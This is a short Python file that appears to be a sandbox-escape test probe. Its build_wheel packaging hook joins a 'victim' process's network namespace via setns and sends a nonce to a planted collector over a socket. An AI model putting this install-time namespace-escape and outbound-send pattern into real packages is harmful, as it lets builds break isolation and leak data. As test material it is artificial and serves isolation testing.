"""Enters the network namespace of a process outside and sends from there.

Where the call is refused, nothing is sent at all.
"""

import os
import socket

import calls
import kit

CLONE_NEWNET = 0x40000000


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    with kit.attempt("join"):
        outside = os.open(f"/proc/{kit.find('victim')}/ns/net", os.O_RDONLY)
        calls.checked(calls.libc.setns(outside, CLONE_NEWNET), "setns")
        collector = kit.plant("collector")
        address = (collector.address, collector.port)
        with socket.create_connection(address, timeout=kit.seconds(3)) as out:
            out.sendall(f"{kit.nonce}\n".encode())
    return kit.wheel(wheel_directory)
